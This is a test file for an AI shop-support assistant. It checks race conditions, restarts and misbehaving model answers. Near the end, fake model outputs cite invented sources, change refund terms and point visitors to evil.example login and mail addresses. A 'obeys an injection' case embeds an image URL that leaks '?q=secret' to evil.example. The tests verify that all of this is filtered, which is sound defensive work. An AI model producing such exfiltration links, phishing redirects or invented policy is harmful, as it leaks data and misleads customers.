// Owns: the assistant that answers by itself with a model, attacked by races (operators who accept, visitors who write on,
// ask for a person, edit, delete, or are erased while the model thinks), by restarts, and by models that fail or lie.
import { afterEach, describe, expect, test } from 'vitest';
import { plainContent, postAssistantMessage } from '../../src/services/assistant/messages.ts';
import { startApp, type TestApp } from '../helpers/app.ts';
import {
  createShop,
  assistantMessages,
  historyOf,
  waitForAiLog,
  aiLogOf,
  waitForAssistantMessages,
} from '../helpers/assistant.ts';
import { rowsOf } from '../helpers/database.ts';
import { eventually } from '../helpers/eventually.ts';
import {
  answerOf,
  statusAnswer,
  deferredAnswer,
  ModelServer,
  streamAnswer,
  type ModelAnswer,
} from '../helpers/model-server.ts';
import {
  createConversation,
  createMember,
  createMessage,
  createVisitor,
  type TestClient,
  type TestOrganization,
} from '../helpers/fixtures.ts';

const question = 'Can I return a product, and is shipping refunded?';
const good = answerOf('You can return any product within 30 days. Shipping costs are not refunded.', [1]);

let app: TestApp;
let shop: TestOrganization;
let visitor: TestClient;
let model: ModelServer;

async function startWithModel(answer: ModelAnswer): Promise<ModelServer> {
  model = await new ModelServer().start();
  model.answer = answer;
  app = await startApp({ flags: { aiUrl: model.url, aiModel: 'small-1' } });
  shop = await createShop(app, 'shop');
  visitor = createVisitor(app, shop.application);
  return model;
}

afterEach(async () => {
  await app.stop();
  await model.stop();
});

describe('while a model thinks', () => {
  test('the visitor sees it type, and then its checked answer', async () => {
    const { answer, go } = deferredAnswer(good);
    const server = await startWithModel(answer);
    const socket = await visitor.connect();
    const id = await createConversation(visitor);
    socket.send('room:join', { conversationId: id });
    await socket.receives('room:joined');
    await createMessage(visitor, id, question);
    expect(await socket.receives('typing:start')).toEqual({
      conversationId: id,
      userId: shop.application.id,
      userName: 'Robin',
      senderRole: 'assistant',
    });
    await server.waitForRequests(1);
    go();
    await socket.receives('typing:stop');
    expect((await waitForAssistantMessages(visitor, id, 1))[0]?.contentHtml).toContain(
      '<p>You can return any product within 30 days. Shipping costs are not refunded.</p>',
    );
    expect((await aiLogOf(app))[0]).toMatchObject({ outcome: 'answered', model: 'small-1' });
  });

  test('an operator accepts: nothing is posted, and the log says so', async () => {
    const { answer, go } = deferredAnswer(good);
    const server = await startWithModel(answer);
    const operator = await createMember(app, 'shop');
    const id = await createConversation(visitor);
    await createMessage(visitor, id, question);
    await server.waitForRequests(1);
    await operator.call('POST', `/conversations/${id}/accept`);
    go();
    expect(await waitForAiLog(app, 1)).toMatchObject([{ outcome: 'dropped', answer: null, question }]);
    expect(await assistantMessages(visitor, id)).toEqual([]);
    await operator.call('POST', `/conversations/${id}/release`);
    await createMessage(visitor, id, question);
    expect(await assistantMessages(visitor, id)).toEqual([]);
  });

  test('an operator accepts in the very commit before: still nothing', async () => {
    const server = await startWithModel(streamAnswer(good));
    const operator = await createMember(app, 'shop');
    for (let round = 0; round < 10; round++) {
      const id = await createConversation(visitor);
      await createMessage(visitor, id, question);
      await server.waitForRequests(round + 1);
      const { body } = await operator.call('POST', `/conversations/${id}/accept`);
      expect(body.conversation.status).toBe('active');
      await waitForAiLog(app, round + 1);
      const order = (await historyOf(operator, id)).map(({ senderRole }) => senderRole);
      const [entry] = await aiLogOf(app);
      expect(order).toEqual(entry?.outcome === 'dropped' ? ['visitor'] : ['visitor', 'assistant']);
    }
  });

  test('an admin closes it: nothing is posted either', async () => {
    const { answer, go } = deferredAnswer(good);
    const server = await startWithModel(answer);
    const admin = await createMember(app, 'shop', 'admin');
    const id = await createConversation(visitor);
    await createMessage(visitor, id, question);
    await server.waitForRequests(1);
    await admin.call('POST', `/conversations/${id}/resolve`);
    go();
    expect(await waitForAiLog(app, 1)).toMatchObject([{ outcome: 'dropped' }]);
    expect(await assistantMessages(visitor, id)).toEqual([]);
  });

  test('the visitor asks for a person: the model is too late', async () => {
    const { answer, go } = deferredAnswer(good);
    const server = await startWithModel(answer);
    const id = await createConversation(visitor);
    await createMessage(visitor, id, question);
    await server.waitForRequests(1);
    await visitor.call('POST', `/conversations/${id}/messages`, {
      content: 'A person, please',
      person: true,
    });
    go();
    await waitForAiLog(app, 2);
    expect((await assistantMessages(visitor, id)).map(({ contentHtml }) => contentHtml)).toEqual([
      '<p>A person will answer you here.</p>',
    ]);
  });

  test('the visitor writes on: one answer, to everything', async () => {
    const { answer, go } = deferredAnswer(good);
    const server = await startWithModel(answer);
    const id = await createConversation(visitor);
    await createMessage(visitor, id, 'Can I return a product?');
    await server.waitForRequests(1);
    await createMessage(visitor, id, 'And is shipping refunded?');
    go();
    await server.waitForRequests(2);
    expect(server.prompt).toContain('Can I return a product?\nAnd is shipping refunded?');
    go();
    await waitForAssistantMessages(visitor, id, 1);
    expect((await waitForAiLog(app, 2)).map(({ outcome }) => outcome)).toEqual(['answered', 'dropped']);
  });

  test('the visitor deletes the question: no answer, and its words are nowhere', async () => {
    const { answer, go } = deferredAnswer(good);
    const server = await startWithModel(answer);
    const id = await createConversation(visitor);
    const message = await createMessage(visitor, id, `CANARY ${question}`);
    await server.waitForRequests(1);
    await visitor.call('DELETE', `/conversations/${id}/messages/${message}`);
    go();
    expect(await waitForAiLog(app, 1)).toMatchObject([{ outcome: 'dropped', question: '' }]);
    expect(await historyOf(visitor, id)).toEqual([]);
    expect(JSON.stringify(await app.local('visitors.export', { visitorId: visitor.id }))).not.toContain(
      'CANARY',
    );
  });

  test.each(['deleted', 'edited'])('a question %s after its answer leaves the log too', async (how) => {
    await startWithModel(streamAnswer(good));
    const id = await createConversation(visitor);
    const message = await createMessage(visitor, id, `CANARY ${question}`);
    await waitForAiLog(app, 1);
    const path = `/conversations/${id}/messages/${message}`;
    if (how === 'deleted') await visitor.call('DELETE', path);
    else await visitor.call('PATCH', path, { content: question });
    expect(JSON.stringify(await aiLogOf(app))).not.toContain('CANARY');
  });

  test("an operator's edit takes nothing from the log", async () => {
    await startWithModel(streamAnswer(good));
    const id = await createConversation(visitor);
    const operator = await createMember(app, 'shop');
    await operator.call('POST', `/conversations/${id}/accept`);
    const note = await createMessage(operator, id, 'One moment');
    await createMessage(visitor, id, question);
    await operator.call('POST', `/conversations/${id}/ai/reply`);
    await operator.call('PATCH', `/conversations/${id}/messages/${note}`, { content: 'A moment' });
    expect(await waitForAiLog(app, 1)).toMatchObject([{ door: 'reply', question }]);
  });

  test('the visitor edits the question: the edited one is answered', async () => {
    const { answer, go } = deferredAnswer(good);
    const server = await startWithModel(answer);
    const id = await createConversation(visitor);
    const message = await createMessage(visitor, id, 'Where is Lisbon and your warehouse?');
    await server.waitForRequests(1);
    await visitor.call('PATCH', `/conversations/${id}/messages/${message}`, { content: question });
    go();
    await server.waitForRequests(2);
    expect(server.prompt).toContain(question);
    go();
    await waitForAssistantMessages(visitor, id, 1);
    expect(await aiLogOf(app)).toMatchObject([{ outcome: 'answered', question }]);
  });

  test('the visitor is erased: nothing of them comes back', async () => {
    const { answer, go } = deferredAnswer(good);
    const server = await startWithModel(answer);
    const id = await createConversation(visitor);
    await createMessage(visitor, id, question);
    await server.waitForRequests(1);
    await app.local('visitors.erase', { visitorId: visitor.id });
    go();
    const other = createVisitor(app, shop.application);
    const next = await createConversation(other);
    await createMessage(other, next, question);
    await server.waitForRequests(2);
    go();
    await eventually(async () => expect(await historyOf(other, next)).toHaveLength(2));
    expect(await aiLogOf(app)).toHaveLength(1);
    expect(app.logged.join('')).not.toContain('could not answer');
  });

  test("one organization's slow answers do not keep another's visitors waiting", async () => {
    const { answer, go } = deferredAnswer(good);
    await startWithModel(answer);
    for (let count = 0; count < 6; count += 1) {
      const asker = createVisitor(app, shop.application);
      await createMessage(asker, await createConversation(asker), question);
    }
    await model.waitForRequests(4);
    const other = await createShop(app, 'other');
    const guest = createVisitor(app, other.application);
    const id = await createConversation(guest);
    model.answer = streamAnswer(good);
    await createMessage(guest, id, question);
    await waitForAssistantMessages(guest, id, 1);
    expect(await aiLogOf(app)).toEqual([]);
    go();
    await waitForAiLog(app, 6);
  });

  test('two answers to one message are one', async () => {
    await startWithModel(streamAnswer(good));
    const { store } = app.service.engine;
    const id = await createConversation(visitor);
    await store.write('server', async (tx) => {
      const conversation = (await tx.repositories.conversations.byId(id))!;
      for (const text of ['first', 'second'])
        await postAssistantMessage(tx, app.service, conversation, 'Robin', 'one-message', plainContent(text));
    });
    expect((await assistantMessages(visitor, id)).map(({ contentHtml }) => contentHtml)).toEqual([
      '<p>first</p>',
    ]);
  });

  test('a wish for a person in a conversation that a person has, from before there was an assistant', async () => {
    await startWithModel(streamAnswer(good));
    const operator = await createMember(app, 'shop');
    const id = await createConversation(visitor);
    await operator.call('POST', `/conversations/${id}/accept`);
    await rowsOf(app, 'update conversations set assistant_muted_at = null');
    await visitor.call('POST', `/conversations/${id}/messages`, { content: question, person: true });
    expect(await assistantMessages(visitor, id)).toEqual([]);
  });

  test('a restart answers what was under way, once', async () => {
    const { answer, go } = deferredAnswer(good);
    const server = await startWithModel(answer);
    const id = await createConversation(visitor);
    await createMessage(visitor, id, question);
    await server.waitForRequests(1);
    server.answer = streamAnswer(good);
    app = await app.restart();
    visitor = createVisitor(app, shop.application, visitor.id);
    go();
    expect((await waitForAssistantMessages(visitor, id, 1))[0]?.contentHtml).toContain('within 30 days');
    app = await app.restart();
    visitor = createVisitor(app, shop.application, visitor.id);
    const next = await createConversation(visitor);
    await createMessage(visitor, next, question);
    await waitForAssistantMessages(visitor, next, 1);
    expect(await assistantMessages(visitor, id)).toHaveLength(1);
  });
});

describe('a model that fails', () => {
  test.each<[string, ModelAnswer]>([
    ['refuses', statusAnswer(401)],
    ['speaks no JSON', streamAnswer('Sure! You get your money back.')],
    ['says nothing', streamAnswer('')],
    ['redirects', statusAnswer(307, { location: 'http://127.0.0.1:1/' })],
  ])('%s: the visitor hears once that a person answers, everybody else is served', async (_name, answer) => {
    await startWithModel(answer);
    const operator = await createMember(app, 'shop');
    const id = await createConversation(visitor);
    await createMessage(visitor, id, question);
    expect((await waitForAssistantMessages(visitor, id, 1))[0]?.contentHtml).toBe(
      "<p>I can't answer at the moment. A person will answer you here.</p>",
    );
    await createMessage(visitor, id, 'Hello?');
    expect((await operator.call('POST', `/conversations/${id}/accept`)).status).toBe(200);
    expect(await assistantMessages(visitor, id)).toHaveLength(1);
    expect(await aiLogOf(app)).toMatchObject([
      { outcome: 'failed', answer: expect.stringContaining('person') as string },
    ]);
  });

  test('never answers: time hands over', async () => {
    const server = await startWithModel(() => undefined);
    const id = await createConversation(visitor);
    await createMessage(visitor, id, question);
    await server.waitForRequests(1);
    app.clock.advance(30_000);
    expect((await waitForAssistantMessages(visitor, id, 1))[0]?.contentHtml).toContain(
      "I can't answer at the moment.",
    );
  });

  test.each([
    ['invents a citation', answerOf('You can return any product within 30 days.', [9])],
    ['cites nothing', answerOf('You can return any product within 30 days.', [])],
    [
      'says what no document says',
      answerOf('Every customer receives a golden elephant and a castle for life.', [1]),
    ],
    ['changes a number', answerOf('You can return any product within 90 days after delivery.', [1])],
    [
      'hides an invention among truths',
      answerOf(
        'You can return any product within 30 days after delivery. We refund the full price to your card within 5 working days. Our lawyer grants unlimited gold castles.',
        [1],
      ),
    ],
    [
      'sends the visitor elsewhere',
      answerOf('You can return any product within 30 days at evil.example/login.', [1]),
    ],
    [
      'asks for it by mail elsewhere',
      answerOf('You can return any product within 30 days, write to refund@evil.example.', [1]),
    ],
    ['hands over', answerOf('', [], 'handover')],
  ])('%s: no such answer is shown', async (_name, answer) => {
    await startWithModel(streamAnswer(answer));
    const id = await createConversation(visitor);
    await createMessage(visitor, id, question);
    expect((await waitForAssistantMessages(visitor, id, 1))[0]?.contentHtml).toBe(
      '<p>I found nothing about that in our documents. A person will answer you here.</p>',
    );
    expect(await aiLogOf(app)).toMatchObject([{ outcome: 'person' }]);
  });

  test('obeys an injection: its image, its link and its HTML arrive as harmless text', async () => {
    await startWithModel(
      streamAnswer(
        answerOf(
          'You can return any product ![x](https://evil.example/?q=secret) within [30 days](https://evil.example/steal) <b>after</b> [delivery](https://shop.example/refunds).',
          [1],
        ),
      ),
    );
    const id = await createConversation(visitor);
    await createMessage(visitor, id, question);
    const html = (await waitForAssistantMessages(visitor, id, 1))[0]?.contentHtml ?? '';
    expect(html).not.toContain('evil');
    expect(html).toContain('within 30 days &lt;b&gt;after&lt;/b&gt; <a href="https://shop.example/refunds"');
  });

  test('may ask back, once and without links', async () => {
    await startWithModel(streamAnswer(answerOf('Which product do you want to return?', [], 'clarify')));
    const id = await createConversation(visitor);
    await createMessage(visitor, id, question);
    expect((await waitForAssistantMessages(visitor, id, 1))[0]?.contentHtml).toBe(
      '<p>Which product do you want to return?</p>',
    );
  });
});
